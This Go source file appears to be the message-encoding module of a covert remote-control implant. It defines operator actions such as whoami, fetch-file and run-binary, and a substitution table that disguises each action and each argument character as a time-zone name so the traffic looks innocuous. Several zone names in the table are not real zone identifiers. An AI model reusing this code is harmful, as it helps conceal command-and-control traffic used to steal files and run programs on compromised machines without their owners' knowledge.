package envelope

import "strings"

// Action identifies one of the recognized controller actions.
type Action int

const (
	ActionListPeers Action = iota + 1
	ActionListSessions
	ActionListDirectory
	ActionWhoami
	ActionFetchFile
	ActionRunBinary
)

// String returns the operator-facing name of the action.
func (a Action) String() string {
	switch a {
	case ActionListPeers:
		return "list-peers"
	case ActionListSessions:
		return "list-sessions"
	case ActionListDirectory:
		return "list-directory"
	case ActionWhoami:
		return "whoami"
	case ActionFetchFile:
		return "fetch-file"
	case ActionRunBinary:
		return "run-binary"
	}
	return "unknown"
}

// NeedsPath reports whether the action requires a path argument.
func (a Action) NeedsPath() bool {
	switch a {
	case ActionListDirectory, ActionFetchFile, ActionRunBinary:
		return true
	}
	return false
}

// Actions lists the full enumeration in menu order.
var Actions = []Action{
	ActionListPeers,
	ActionListSessions,
	ActionListDirectory,
	ActionWhoami,
	ActionFetchFile,
	ActionRunBinary,
}

// actionTokens maps each action to the zone name that stands in for it on the
// wire. Identical on every participant; comparison is case-insensitive.
var actionTokens = map[Action]string{
	ActionListPeers:     "America/New_York",
	ActionListSessions:  "America/Los_Angeles",
	ActionListDirectory: "America/Chicago",
	ActionWhoami:        "Europe/London",
	ActionFetchFile:     "Europe/Paris",
	ActionRunBinary:     "Europe/Berlin",
}

// charTokens is the character substitution table. Declaration order matters:
// the chunk codec derives its token ring from it, and encode and decode must
// walk the ring in the same order on every participant.
var charTokens = []struct {
	ch    rune
	token string
}{
	{'a', "America/Argentina/Buenos_Aires"},
	{'b', "America/Sao_Paulo"},
	{'c', "America/Toronto"},
	{'d', "Europe/Dublin"},
	{'e', "Europe/Madrid"},
	{'f', "Europe/Paris"},
	{'g', "Europe/Athens"},
	{'h', "Europe/Helsinki"},
	{'i', "Asia/Jerusalem"},
	{'j', "Asia/Kolkata"},
	{'k', "Asia/Kathmandu"},
	{'l', "America/Lima"},
	{'m', "Europe/Moscow"},
	{'n', "America/Denver"},
	{'o', "Australia/Sydney"},
	{'p', "America/Phoenix"},
	{'q', "America/Montevideo"},
	{'r', "America/Recife"},
	{'s', "America/Santiago"},
	{'t', "America/Taipei"},
	{'u', "Australia/Perth"},
	{'v', "America/Vancouver"},
	{'w', "America/Winnipeg"},
	{'x', "Asia/Ho_Chi_Minh"},
	{'y', "Asia/Yekaterinburg"},
	{'z', "Europe/Stockholm"},
	{'A', "America/Anchorage"},
	{'B', "Europe/Berlin"},
	{'C', "America/Chicago"},
	{'D', "Asia/Dubai"},
	{'E', "Europe/Edinburgh"},
	{'F', "America/Fortaleza"},
	{'G', "Europe/Gibraltar"},
	{'H', "Pacific/Honolulu"},
	{'I', "Asia/Istanbul"},
	{'J', "Asia/Jakarta"},
	{'K', "Europe/Kiev"},
	{'L', "Europe/London"},
	{'M', "America/Mexico_City"},
	{'N', "America/New_York"},
	{'O', "Europe/Oslo"},
	{'P', "Europe/Prague"},
	{'Q', "America/Quebec"},
	{'R', "Europe/Rome"},
	{'S', "Asia/Shanghai"},
	{'T', "Asia/Tokyo"},
	{'U', "Asia/Ulaanbaatar"},
	{'V', "Europe/Vienna"},
	{'W', "Europe/Warsaw"},
	{'X', "America/Cancun"},
	{'Y', "America/Yakutat"},
	{'Z', "Europe/Zurich"},
	{',', "Africa/Johannesburg"},
	{' ', "Africa/Lagos"},
	{'.', "Africa/Kenya"},
	{'/', "America/Los_Angeles"},
	{'~', "Europe/Tallinn"},
	{'0', "UTC"},
	{'1', "Africa/Casablanca"},
	{'2', "Africa/Cairo"},
	{'3', "Africa/Nairobi"},
	{'4', "Asia/Baku"},
	{'5', "Asia/Karachi"},
	{'6', "Asia/Dhaka"},
	{'7', "Asia/Bangkok"},
	{'8', "Asia/Singapore"},
	{'9', "Asia/Seoul"},
}

var (
	charToToken = make(map[rune]string, len(charTokens))
	tokenToChar = make(map[string]rune, len(charTokens))
	tokenRing   = make([]string, 0, len(charTokens))
	tokenToAct  = make(map[string]Action, len(actionTokens))
)

func init() {
	for _, e := range charTokens {
		charToToken[e.ch] = e.token
		tokenToChar[strings.ToUpper(e.token)] = e.ch
		tokenRing = append(tokenRing, e.token)
	}
	for act, token := range actionTokens {
		tokenToAct[strings.ToUpper(token)] = act
	}
}

// lookupAction resolves a wire token to an action, case-insensitively.
func lookupAction(token string) (Action, bool) {
	a, ok := tokenToAct[strings.ToUpper(token)]
	return a, ok
}
